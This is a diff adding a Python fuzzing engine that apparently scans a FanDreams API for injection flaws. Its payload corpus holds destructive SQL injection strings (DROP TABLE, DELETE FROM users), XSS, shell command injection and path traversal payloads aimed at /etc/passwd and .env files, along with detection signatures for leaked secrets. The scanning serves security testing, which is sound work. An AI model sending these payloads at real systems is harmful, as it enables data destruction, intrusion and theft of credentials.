@@ -0,0 +1,682 @@
+#!/usr/bin/env python3
+"""
+============================================================================
+FANDREAMS -- FUZZ ENGINE (corpus compartilhado, dedup, envio concorrente)
+============================================================================
+
+Substitui os loops "um payload por vez" de injection/XSS/path traversal.
+As listas de payloads copiadas entre scripts viram um corpus unico
+(CORPUS, por familia), extensivel por arquivos.
+
+  1. plano: produto cartesiano (alvo x local do parametro x payload) --
+     query, corpo JSON, segmento de path ou header -- com dedup de
+     requests equivalentes (mesmo metodo, URL final, headers e corpo
+     canonico; o mesmo payload em duas familias sai uma vez so);
+  2. baseline: N requests benignas por alvo -> distribuicao de latencia
+     (mediana, MAD, max), status e corpo de referencia;
+  3. envio concorrente no pool compartilhado, com limite por host; um alvo
+     que responde 429 para de receber payloads (o resto conta como
+     `throttled` e o resultado e inconclusivo, nao "protegido"); alvos
+     atras de um rate limit apertado (authRateLimit) levam `budget`;
+  4. classificacao em streaming (cada resposta e classificada e
+     descartada): 5xx que o baseline nao tem, erro de SQL no corpo,
+     reflexao do payload, vazamento de arquivo, header injetado, login
+     aceito e anomalia de tempo para payloads SLEEP(5)/pg_sleep(5)/
+     WAITFOR/sleep 5 (latencia >= mediana do baseline + 80% do atraso,
+     acima do maximo do baseline, confirmada com um reenvio).
+
+Uso via scanners:
+    fz = Fuzzer(session, base)
+    rep = fz.run([Target("GET", "/discover/search", "query", "q",
+                         families=("sqli", "sqli_time", "xss"))])
+    rep.hits("server_error"), rep.sent, rep.throttled(), rep.describe()
+
+Corpus extra (.txt = um payload por linha, familia = nome do arquivo;
+.json = {"familia": [payloads]}):
+    python fuzz_engine.py --target https://api.fandreams.app/api/v1 \\
+        --path /discover/search --param q --payloads sqli.txt,extra.json
+============================================================================
+"""
+
+import argparse
+import asyncio
+import json as _json
+import os
+import re
+import statistics
+import time
+from typing import Callable, Dict, Iterable, List, Optional, Sequence, Tuple
+from urllib.parse import quote
+
+import http_engine
+from http_engine import RequestError, encode_url, split_origin
+
+DEFAULT_PER_HOST = 16        # the shared pool allows 20 per host
+DEFAULT_BASELINE = 5         # benign requests per target
+DEFAULT_TIMEOUT = 15         # must exceed the longest SLEEP payload
+TIMING_FACTOR = 0.8          # fraction of the injected delay that must show up
+TIMING_CONFIRM_MAX = 3       # confirmed timing hits per target before skipping the rest
+EVIDENCE_CHARS = 160
+INJECTED_HEADER = "X-Fuzz-Injected"
+
+# Hit kinds
+SERVER_ERROR = "server_error"
+SQL_ERROR = "sql_error"
+REFLECTION = "reflection"
+FILE_LEAK = "file_leak"
+HEADER_INJECTION = "header_injection"
+ACCEPTED = "accepted"
+TIMING = "timing"
+
+SQL_ERROR_SIGNATURES = (
+    "syntax error at or near", "unterminated quoted string", "sqlstate", "postgreserror",
+    "pg_catalog", "invalid input syntax for", "you have an error in your sql syntax",
+    "unclosed quotation mark", "sqlite3.operationalerror", "ora-0", "drizzlequeryerror",
+)
+FILE_SIGNATURES = ("root:x:0:0", "root:", "/bin/bash", "/bin/sh", "daemon:", "nobody:",
+                   "[fonts]", "[extensions]")
+SECRET_SIGNATURES = ("DB_", "SECRET", "KEY=", "PASSWORD", "DATABASE_URL")   # only on 200
+
+_DELAY_RES = (
+    re.compile(r"(?:pg_)?sleep\s*\(?\s*(\d+(?:\.\d+)?)", re.I),
+    re.compile(r"waitfor\s+delay\s+'(\d+):(\d+):(\d+)'", re.I),
+)
+
+
+# === Corpus ===================================================================
+
+def _traversal_payloads() -> Tuple[str, ...]:
+    files = ("etc/passwd", ".env", "proc/self/environ", "windows/win.ini")
+    seqs = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "....//", "..\\", "..%5c",
+            "%c0%ae%c0%ae/", "..;/")
+    out = []
+    for seq in seqs:
+        sep = "\\" if seq.endswith("\\") else seq[-3:] if seq.endswith(("%2f", "%5c")) \
+            else "%252f" if seq.endswith("%252f") else "/"
+        for depth in (1, 2, 4, 6, 8):
+            for f in files:
+                out.append(seq * depth + f.replace("/", sep))
+        out.append(seq * 8 + "etc" + sep + "passwd%00.png")
+    return tuple(out)
+
+
+CORPUS: Dict[str, Tuple] = {
+    "sqli": (
+        "'", "''", '"', "\\'", "' OR '1'='1", "' OR 1=1--", '" OR "1"="1', "') OR ('1'='1",
+        "' OR ''='", "' OR 1=1#", "admin'--", "admin' #", "-1 OR 1=1", "1 AND 1=1", "1 AND 1=2",
+        "' AND '1'='2", "%' AND 1=1 AND '%'='", "'; DROP TABLE users;--",
+        "1' UNION SELECT * FROM users--", "1 UNION SELECT NULL--",
+        "' UNION ALL SELECT NULL,password_hash,NULL FROM users--",
+        "1; DELETE FROM users WHERE 1=1",
+        "' AND (SELECT COUNT(*) FROM information_schema.tables) > 0--",
+        "1' AND 1=CONVERT(int, (SELECT TOP 1 table_name FROM information_schema.tables))--",
+        "' AND 1=CAST((SELECT version()) AS int)--", "' || (SELECT current_user) || '",
+        "1' ORDER BY 100--", "' GROUP BY 1 HAVING 1=1--", "'::text--", "$1",
+        "';SELECT pg_read_file('/etc/passwd')--", "1e309",
+    ),
+    "sqli_time": (
+        "' OR SLEEP(5)--", "1' AND SLEEP(5)--", "' AND 1=(SELECT 1 FROM (SELECT SLEEP(5))a)--",
+        "'; SELECT pg_sleep(5)--", "' OR pg_sleep(5)--", '" OR pg_sleep(5)--',
+        "' || pg_sleep(5) || '", "1' AND (SELECT 1 FROM pg_sleep(5))::text='1",
+        "';SELECT CASE WHEN 1=1 THEN pg_sleep(5) ELSE pg_sleep(0) END--",
+        "1; WAITFOR DELAY '0:0:5'--",
+    ),
+    "nosql": (
+        {"$gt": ""}, {"$ne": None}, {"$ne": ""}, {"$regex": ".*"}, {"$where": "1==1"},
+        {"$exists": True}, {"$in": ["admin", "test"]}, {"$nin": []},
+        '{"$gt": ""}', "true, $where: '1 == 1'", "' || '1'=='1",
+    ),
+    "xss": (
+        '<script>alert("XSS")</script>', "<script>alert('XSS')</script>",
+        '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)">', '<svg/onload=alert(1)>',
+        '"><svg onload=alert(1)>', 'javascript:alert(1)', 'javascript:alert(1)//',
+        '"><img src=x onerror=alert(1)>', "'><script>alert(document.cookie)</script>",
+        '<body onload=alert(1)>', '<details open ontoggle=alert(1)>',
+        '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
+        '<a href="data:text/html,<script>alert(1)</script>">click</a>',
+        '<iframe src="javascript:alert(1)">', '<input autofocus onfocus=alert(1)>',
+        '<svg><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
+        '" onmouseover="alert(1)', "'-alert(1)-'", '</script><script>alert(1)</script>',
+        '<IMG SRC=JaVaScRiPt:alert(1)>', '<video><source onerror="alert(1)">',
+        '{{7*7}}', '${7*7}', '<%= 7*7 %>',
+    ),
+    "cmd": (
+        '; ls -la', '| cat /etc/passwd', '$(whoami)', '`id`', '&& id', '|| id', '; id #',
+        '\nid', '$(cat /etc/passwd)', '; sleep 5', '| sleep 5', '`sleep 5`', '$(sleep 5)',
+        '&& sleep 5',
+    ),
+    "crlf": (
+        f"value\r\n{INJECTED_HEADER}: 1", f"\r\n{INJECTED_HEADER}: 1", f"\n{INJECTED_HEADER}: 1",
+        f"%0d%0a{INJECTED_HEADER}:%201", f"%0a{INJECTED_HEADER}:1", f"%0d{INJECTED_HEADER}:1",
+        f"%E5%98%8A%E5%98%8D{INJECTED_HEADER}:1",
+    ),
+    "traversal": _traversal_payloads(),
+}
+
+_active_corpus: Dict[str, Tuple] = CORPUS
+
+
+def load_corpus(paths: Iterable[str], base: Optional[Dict[str, Tuple]] = None) -> Dict[str, Tuple]:
+    """Merge payload files into `base` (default: the built-in CORPUS), deduplicated."""
+    merged = {k: list(v) for k, v in (base or CORPUS).items()}
+    for path in paths:
+        if path.endswith(".json"):
+            with open(path) as f:
+                extra = _json.load(f)
+            if not isinstance(extra, dict):
+                raise ValueError(f"{path}: esperado {{\"familia\": [payloads]}}")
+        else:
+            family = os.path.splitext(os.path.basename(path))[0]
+            with open(path, encoding="utf-8") as f:
+                lines = [ln.rstrip("\r\n") for ln in f]
+            extra = {family: [ln for ln in lines if ln and not ln.startswith("#")]}
+        for family, values in extra.items():
+            bucket = merged.setdefault(family, [])
+            known = {_json.dumps(v, sort_keys=True) for v in bucket}
+            for v in values:
+                key = _json.dumps(v, sort_keys=True)
+                if key not in known:
+                    known.add(key)
+                    bucket.append(v)
+    return {k: tuple(v) for k, v in merged.items()}
+
+
+def use_corpus(corpus: Dict[str, Tuple]):
+    """Make `corpus` the default for every Fuzzer in this process (--payloads)."""
+    global _active_corpus
+    _active_corpus = corpus
+
+
+def active_corpus() -> Dict[str, Tuple]:
+    """Corpus used by Fuzzers created without an explicit one."""
+    return _active_corpus
+
+
+def payload_delay(value) -> float:
+    """Seconds a time-based payload asks the server to sleep (0 if none)."""
+    if not isinstance(value, str):
+        return 0.0
+    for rx in _DELAY_RES:
+        m = rx.search(value)
+        if m:
+            g = [float(x) for x in m.groups()]
+            return g[0] if len(g) == 1 else g[0] * 3600 + g[1] * 60 + g[2]
+    return 0.0
+
+
+# === Targets and cases ========================================================
+
+class Target:
+    """One injection point: endpoint + parameter location.
+
+    location: "query" (param=?), "json" (body field(s) in `param`), "path"
+    (`path` is a template with "{}"), "header" (header name in `param`).
+    `body` is a dict, or a callable returning a fresh one for every request
+    (e.g. a unique email, so a register endpoint does not answer "already
+    exists" to every case after the first).
+    `accepted_is_vuln` flags 2xx + success:true as a hit (login bypass).
+    `budget` caps the requests sent to the target: 1 baseline + budget-1
+    payloads, spread evenly across families and across each family's list.
+    """
+
+    __slots__ = ("method", "path", "location", "param", "body", "families", "name",
+                 "benign", "accepted_is_vuln", "budget")
+
+    def __init__(self, method: str, path: str, location: str, param=None, body=None,
+                 families: Sequence[str] = ("sqli",), name: Optional[str] = None,
+                 benign: str = "fuzztest", accepted_is_vuln: bool = False,
+                 budget: Optional[int] = None):
+        if location not in ("query", "json", "path", "header"):
+            raise ValueError(f"location invalida: {location}")
+        self.method = method.upper()
+        self.path = path
+        self.location = location
+        self.param = param
+        self.body = body
+        self.families = tuple(families)
+        self.name = name or f"{self.method} {path} [{location}:{param or '-'}]"
+        self.benign = benign
+        self.accepted_is_vuln = accepted_is_vuln
+        self.budget = budget
+
+    def render(self, value) -> Tuple[str, Optional[dict], object]:
+        """(path with query, extra headers, json body) carrying `value`."""
+        base = self.body() if callable(self.body) else self.body
+        body = dict(base) if base is not None else None
+        if self.location == "query":
+            if isinstance(value, dict):      # qs-style operator injection: q[$ne]=x
+                qs = "&".join(f"{self.param}[{quote(str(k), safe='$')}]="
+                              f"{quote(_json.dumps(v) if not isinstance(v, str) else v, safe='%')}"
+                              for k, v in value.items())
+            else:
+                qs = f"{self.param}={quote(str(value), safe='%')}"
+            sep = "&" if "?" in self.path else "?"
+            return f"{self.path}{sep}{qs}", None, body
+        if self.location == "json":
+            body = body or {}
+            for p in (self.param if isinstance(self.param, (tuple, list)) else (self.param,)):
+                body[p] = value
+            return self.path, None, body
+        if self.location == "path":
+            return self.path.format(value), None, body
+        return self.path, {self.param: str(value)}, body
+
+
+class _Case:
+    __slots__ = ("target", "value", "families", "url", "headers", "body", "delay")
+
+    def __init__(self, target: Target, value, family: str, base: str):
+        self.target = target
+        self.value = value
+        self.families = [family]
+        path, self.headers, self.body = target.render(value)
+        self.url = base + path
+        self.delay = payload_delay(value) if family.endswith("_time") or family == "cmd" else 0.0
+
+    def key(self) -> tuple:
+        hdrs = tuple(sorted((k.lower(), v) for k, v in (self.headers or {}).items()))
+        if callable(self.target.body):
+            # The factory makes every body unique: the payload is what identifies the case
+            body = _json.dumps(self.value, sort_keys=True)
+        else:
+            body = _json.dumps(self.body, sort_keys=True) if self.body is not None else ""
+        return (self.target.method, encode_url(self.url), hdrs, body)
+
+    def fresh_body(self):
+        """Body for one send: re-rendered when the target builds a new one per request."""
+        return self.target.render(self.value)[2] if callable(self.target.body) else self.body
+
+
+# === Results ==================================================================
+
+class FuzzHit:
+    """One classified anomaly."""
+
+    __slots__ = ("kind", "target", "family", "payload", "status", "elapsed_ms", "evidence")
+
+    def __init__(self, kind: str, case: _Case, status: int, elapsed_ms: float, evidence: str):
+        self.kind = kind
+        self.target = case.target.name
+        self.family = "/".join(case.families)
+        self.payload = case.value if isinstance(case.value, str) else _json.dumps(case.value)
+        self.status = status
+        self.elapsed_ms = elapsed_ms
+        self.evidence = evidence[:EVIDENCE_CHARS]
+
+    def describe(self) -> str:
+        return (f"{self.kind} {self.target} payload={self.payload[:60]!r} "
+                f"status={self.status} {self.elapsed_ms:.0f}ms {self.evidence}")
+
+
+class Baseline:
+    """Latency/status reference of a target's benign requests."""
+
+    __slots__ = ("latencies", "statuses", "body")
+
+    def __init__(self):
+        self.latencies: List[float] = []
+        self.statuses: Dict[int, int] = {}
+        self.body = ""
+
+    @property
+    def median(self) -> float:
+        return statistics.median(self.latencies) if self.latencies else 0.0
+
+    @property
+    def mad(self) -> float:
+        if len(self.latencies) < 2:
+            return 0.0
+        med = self.median
+        return statistics.median(abs(x - med) for x in self.latencies)
+
+    @property
+    def max(self) -> float:
+        return max(self.latencies, default=0.0)
+
+    def to_dict(self) -> dict:
+        return {"n": len(self.latencies), "median_ms": round(self.median * 1000, 1),
+                "mad_ms": round(self.mad * 1000, 1), "max_ms": round(self.max * 1000, 1),
+                "status_codes": {str(k): v for k, v in sorted(self.statuses.items())}}
+
+
+class TargetStats:
+    """Running counters of one target (no per-request records are kept)."""
+
+    __slots__ = ("target", "planned", "trimmed", "sent", "statuses", "baseline", "hits",
+                 "rejected", "errors", "throttled", "by_family")
+
+    def __init__(self, target: Target):
+        self.target = target
+        self.planned = 0
+        self.trimmed = 0             # cases dropped to fit target.budget
+        self.sent = 0
+        self.rejected = 0            # refused client-side before sending (e.g. CRLF in a header)
+        self.errors = 0              # connection failures after sending (resets, refused...)
+        self.throttled = 0           # answered 429, or skipped after the target's first 429
+        self.statuses: Dict[int, int] = {}
+        self.by_family: Dict[str, int] = {}
+        self.baseline = Baseline()
+        self.hits: List[FuzzHit] = []
+
+    def to_dict(self) -> dict:
+        return {"planned": self.planned, "trimmed": self.trimmed, "sent": self.sent,
+                "rejected": self.rejected, "errors": self.errors, "throttled": self.throttled,
+                "by_family": dict(self.by_family),
+                "status_codes": {str(k): v for k, v in sorted(self.statuses.items())},
+                "baseline": self.baseline.to_dict(),
+                "hits": [{s: getattr(h, s) for s in FuzzHit.__slots__} for h in self.hits]}
+
+
+class FuzzReport:
+    """Aggregated outcome of one Fuzzer.run()."""
+
+    def __init__(self, targets: List[TargetStats]):
+        self.targets = {t.target.name: t for t in targets}
+        self.generated = 0           # cross-product size before dedup
+        self.elapsed = 0.0
+
+    @property
+    def planned(self) -> int:
+        return sum(t.planned for t in self.targets.values())
+
+    @property
+    def sent(self) -> int:
+        return sum(t.sent for t in self.targets.values())
+
+    def hits(self, kind: Optional[str] = None, family: Optional[str] = None,
+             target: Optional[str] = None) -> List[FuzzHit]:
+        return [h for t in self.targets.values() for h in t.hits
+                if (kind is None or h.kind == kind)
+                and (family is None or family in h.family.split("/"))
+                and (target is None or h.target == target)]
+
+    def throttled(self, target: Optional[str] = None) -> int:
+        """Cases answered 429 or skipped because the target was already rate limited."""
+        return sum(t.throttled for name, t in self.targets.items()
+                   if target is None or name == target)
+
+    def inconclusive(self, *targets: str) -> str:
+        """Why a clean result of these targets (all if none) proves nothing, or ""."""
+        names = targets or tuple(self.targets)
+        n = sum(self.targets[t].throttled for t in names)
+        total = sum(self.targets[t].planned for t in names)
+        return f"Inconclusivo: {n}/{total} casos limitados por 429" if n else ""
+
+    def sent_for(self, family: Optional[str] = None, target: Optional[str] = None) -> int:
+        """Requests sent (a payload shared by two families counts for both)."""
+        return sum(t.by_family.get(family, 0) if family else t.sent
+                   for name, t in self.targets.items() if target is None or name == target)
+
+    def statuses(self, target: Optional[str] = None) -> Dict[int, int]:
+        out: Dict[int, int] = {}
+        for name, t in self.targets.items():
+            if target is None or name == target:
+                for k, v in t.statuses.items():
+                    out[k] = out.get(k, 0) + v
+        return out
+
+    def describe(self) -> str:
+        kinds: Dict[str, int] = {}
+        for h in self.hits():
+            kinds[h.kind] = kinds.get(h.kind, 0) + 1
+        trimmed = sum(t.trimmed for t in self.targets.values())
+        return (f"{self.sent} requests ({self.generated - self.planned - trimmed} duplicadas "
+                f"removidas{f', {trimmed} fora do budget' if trimmed else ''}) "
+                f"em {self.elapsed:.1f}s, status={dict(sorted(self.statuses().items()))}, "
+                f"achados={kinds or 0}"
+                + (f", {self.throttled()} limitadas por 429 (inconclusivo)" if self.throttled() else ""))
+
+    def to_dict(self) -> dict:
+        return {"generated": self.generated, "planned": self.planned, "sent": self.sent,
+                "elapsed_seconds": round(self.elapsed, 2),
+                "targets": {name: t.to_dict() for name, t in self.targets.items()}}
+
+
+# === Engine ===================================================================
+
+def _spread(groups: List[List], n: int) -> List:
+    """n items taken round-robin across groups, evenly spaced inside each group."""
+    quotas = [0] * len(groups)
+    while n and any(q < len(g) for q, g in zip(quotas, groups)):
+        for i, g in enumerate(groups):
+            if n and quotas[i] < len(g):
+                quotas[i] += 1
+                n -= 1
+    return [g[j * len(g) // q] for g, q in zip(groups, quotas) for j in range(q)]
+
+
+def _not_sent(err: Optional[Exception]) -> bool:
+    """Refused while building the request (bad header/body), before anything hit the wire."""
+    return err is not None and isinstance(err.__cause__, (TypeError, ValueError))
+
+
+def _timed_out(err: Optional[Exception]) -> bool:
+    return err is not None and ("timeout" in str(err).lower() or "timed out" in str(err).lower())
+
+
+class Fuzzer:
+    """Batched, deduplicated payload fuzzing over a Session's engine."""
+
+    def __init__(self, session, base: str, corpus: Optional[Dict[str, Tuple]] = None,
+                 per_host: int = DEFAULT_PER_HOST, baseline_n: int = DEFAULT_BASELINE,
+                 timeout: float = DEFAULT_TIMEOUT):
+        self.session = session
+        self.engine = getattr(session, "engine", None) or http_engine.get_engine()
+        self.base = base.rstrip("/")
+        self.corpus = corpus
+        self.per_host = per_host
+        self.baseline_n = baseline_n
+        self.timeout = timeout
+
+    def _headers(self, extra: Optional[dict]):
+        if hasattr(self.session, "_merge_headers"):
+            return self.session._merge_headers(extra)
+        return {**dict(getattr(self.session, "headers", {}) or {}), **(extra or {})}
+
+    def plan(self, targets: Sequence[Target]) -> Tuple[List[_Case], int]:
+        """Cross product of targets x payloads, deduplicated; returns (cases, generated)."""
+        corpus = self.corpus or _active_corpus
+        seen: Dict[tuple, _Case] = {}
+        generated = 0
+        for t in targets:
+            for family in t.families:
+                for value in corpus.get(family, ()):
+                    generated += 1
+                    case = _Case(t, value, family, self.base)
+                    prev = seen.get(case.key())
+                    if prev is None:
+                        seen[case.key()] = case
+                    elif family not in prev.families:
+                        prev.families.append(family)
+                        prev.delay = prev.delay or case.delay
+        return list(seen.values()), generated
+
+    @staticmethod
+    def _fit_budget(cases: List[_Case], targets: Sequence[Target],
+                    by_target: Dict[str, "TargetStats"]) -> List[_Case]:
+        """Trim budgeted targets to budget-1 cases: fair share per family, evenly spaced."""
+        out = [c for c in cases if c.target.budget is None]
+        for t in targets:
+            if t.budget is None:
+                continue
+            own = [c for c in cases if c.target is t]
+            n = max(0, t.budget - 1)
+            if len(own) > n:
+                groups: Dict[str, List[_Case]] = {}
+                for c in own:
+                    groups.setdefault(c.families[0], []).append(c)
+                by_target[t.name].trimmed = len(own) - n
+                own = _spread(list(groups.values()), n)
+            out.extend(own)
+        return out
+
+    # -- classification --
+
+    def _classify(self, case: _Case, stats: TargetStats, status: int, headers, text: str,
+                  elapsed: float, candidates: List[_Case]):
+        ms = elapsed * 1000
+        base = stats.baseline
+        fams = case.families
+        if status >= 500 and not any(s >= 500 for s in base.statuses):
+            stats.hits.append(FuzzHit(SERVER_ERROR, case, status, ms, text[:EVIDENCE_CHARS]))
+        low = text.lower()
+        sig = next((s for s in SQL_ERROR_SIGNATURES if s in low and s not in base.body.lower()), None)
+        if sig:
+            stats.hits.append(FuzzHit(SQL_ERROR, case, status, ms, f"'{sig}': {text}"))
+        if isinstance(case.value, str) and len(case.value) >= 5 and "traversal" not in fams:
+            forms = (case.value, _json.dumps(case.value)[1:-1])
+            if any(f in text and f not in base.body for f in forms):
+                ctype = headers.get("Content-Type", "") if headers is not None else ""
+                stats.hits.append(FuzzHit(REFLECTION, case, status, ms, f"Content-Type: {ctype}"))
+        if "traversal" in fams:
+            leaked = [s for s in FILE_SIGNATURES if s in text]
+            if status == 200:
+                leaked += [s for s in SECRET_SIGNATURES if s in text]
+            if leaked:
+                stats.hits.append(FuzzHit(FILE_LEAK, case, status, ms, f"{leaked}: {text}"))
+        if headers is not None and INJECTED_HEADER.lower() in {k.lower() for k in headers.keys()}:
+            stats.hits.append(FuzzHit(HEADER_INJECTION, case, status, ms, f"{INJECTED_HEADER} na resposta"))
+        if case.target.accepted_is_vuln and status in (200, 201) and '"success":true' in text.replace(" ", ""):
+            stats.hits.append(FuzzHit(ACCEPTED, case, status, ms, text))
+        if case.delay and self._slow(base, elapsed, case.delay):
+            candidates.append(case)
+
+    @staticmethod
+    def _slow(base: Baseline, elapsed: float, delay: float) -> bool:
+        return elapsed >= base.median + TIMING_FACTOR * delay and elapsed > base.max + 3 * base.mad
+
+    # -- sending --
+
+    async def _send(self, case: _Case, sem: asyncio.Semaphore,
+                    skip: Optional[Callable[[], bool]] = None):
+        """(status, headers, text, elapsed, error); None when `skip()` holds once a slot is free."""
+        async with sem:
+            if skip is not None and skip():
+                return None
+            t0 = time.perf_counter()
+            try:
+                r = await self.engine.request(case.target.method, case.url,
+                                              headers=self._headers(case.headers),
+                                              json=case.fresh_body(),
+                                              timeout=self.timeout, budgeted=True)
+                return r.status_code, r.headers, r.text, time.perf_counter() - t0, None
+            except RequestError as e:
+                return 0, None, "", time.perf_counter() - t0, e
+
+    async def _run_async(self, targets: Sequence[Target], cases: List[_Case],
+                         by_target: Dict[str, TargetStats]):
+        sems: Dict[tuple, asyncio.Semaphore] = {}
+
+        def _sem(url: str) -> asyncio.Semaphore:
+            origin = split_origin(url)[:3]
+            if origin not in sems:
+                sems[origin] = asyncio.Semaphore(self.per_host)
+            return sems[origin]
+
+        # Baseline: sequential per target (clean latency), targets in parallel
+        async def _baseline(t: Target):
+            stats = by_target[t.name]
+            probe = _Case(t, t.benign, "baseline", self.base)
+            for _ in range(1 if t.budget is not None else self.baseline_n):
+                status, _h, text, elapsed, err = await self._send(probe, _sem(probe.url))
+                if err is not None:
+                    continue
+                stats.baseline.latencies.append(elapsed)
+                stats.baseline.statuses[status] = stats.baseline.statuses.get(status, 0) + 1
+                stats.baseline.body = text
+        await asyncio.gather(*[_baseline(t) for t in targets])
+
+        candidates: List[_Case] = []
+
+        async def _one(case: _Case):
+            stats = by_target[case.target.name]
+            # A 429 means the limiter will eat the rest of this target's cases
+            out = await self._send(case, _sem(case.url), skip=lambda: 429 in stats.statuses)
+            if out is None:
+                stats.throttled += 1
+                return
+            status, headers, text, elapsed, err = out
+            if _not_sent(err):
+                stats.rejected += 1
+                return
+            stats.sent += 1
+            stats.statuses[status] = stats.statuses.get(status, 0) + 1
+            for fam in case.families:
+                stats.by_family[fam] = stats.by_family.get(fam, 0) + 1
+            if status == 429:
+                stats.throttled += 1
+                return
+            if err is not None:
+                if _timed_out(err) and case.delay:
+                    candidates.append(case)
+                else:
+                    stats.errors += 1
+                return
+            self._classify(case, stats, status, headers, text, elapsed, candidates)
+
+        await asyncio.gather(*[_one(c) for c in cases])
+
+        # Timing: confirm each candidate with a second, isolated send
+        for case in candidates:
+            stats = by_target[case.target.name]
+            if sum(h.kind == TIMING for h in stats.hits) >= TIMING_CONFIRM_MAX \
+                    or 429 in stats.statuses:
+                continue
+            status, _h, _t, elapsed, err = await self._send(case, _sem(case.url))
+            stats.sent += 1
+            timed_out = _timed_out(err)
+            if timed_out or (err is None and self._slow(stats.baseline, elapsed, case.delay)):
+                stats.hits.append(FuzzHit(TIMING, case, status, elapsed * 1000,
+                                          f"atraso pedido {case.delay:g}s, baseline mediana "
+                                          f"{stats.baseline.median * 1000:.0f}ms"
+                                          + (" (timeout)" if timed_out else "")))
+
+    def run(self, targets: Sequence[Target]) -> FuzzReport:
+        """Plan, baseline, send and classify; blocks until every case is answered."""
+        cases, generated = self.plan(targets)
+        by_target = {t.name: TargetStats(t) for t in targets}
+        cases = self._fit_budget(cases, targets, by_target)
+        for c in cases:
+            by_target[c.target.name].planned += 1
+        for t in targets:
+            # One fingerprintable endpoint per target for the result store
+            http_engine.notify(t.method, self.base + t.render(t.benign)[0])
+        report = FuzzReport(list(by_target.values()))
+        report.generated = generated
+        t0 = time.perf_counter()
+        self.engine.run(self._run_async(targets, cases, by_target))
+        report.elapsed = time.perf_counter() - t0
+        return report
+
+
+# === CLI ======================================================================
+
+def main():
+    parser = argparse.ArgumentParser(description="FanDreams batched payload fuzzer")
+    parser.add_argument("--target", required=True, help="API base URL (ex: https://api.fandreams.app/api/v1)")
+    parser.add_argument("--path", required=True, help="Endpoint path ('{}' marks the path slot)")
+    parser.add_argument("--method", default="GET")
+    parser.add_argument("--location", default="query", choices=("query", "json", "path", "header"))
+    parser.add_argument("--param", default="q", help="Query/JSON field or header name")
+    parser.add_argument("--families", default="sqli,sqli_time,nosql,xss",
+                        help="Comma-separated corpus families")
+    parser.add_argument("--payloads", default="", help="Extra payload files (.txt/.json)")
+    parser.add_argument("--token", default="", help="Bearer token")
+    parser.add_argument("--per-host", type=int, default=DEFAULT_PER_HOST)
+    args = parser.parse_args()
+
+    s = http_engine.make_session("FanDreams-Fuzzer/1.0")
+    if args.token:
+        s.headers["Authorization"] = f"Bearer {args.token}"
+    corpus = load_corpus(args.payloads.split(",")) if args.payloads else None
+    target = Target(args.method, args.path, args.location, args.param,
+                    body={} if args.location == "json" else None,
+                    families=args.families.split(","))
+    rep = Fuzzer(s, args.target, corpus=corpus, per_host=args.per_host).run([target])
+    print(f"  {rep.describe()}")
+    for h in rep.hits():
+        print(f"  [{h.kind}] {h.describe()}")
+
+
+if __name__ == "__main__":
+    main()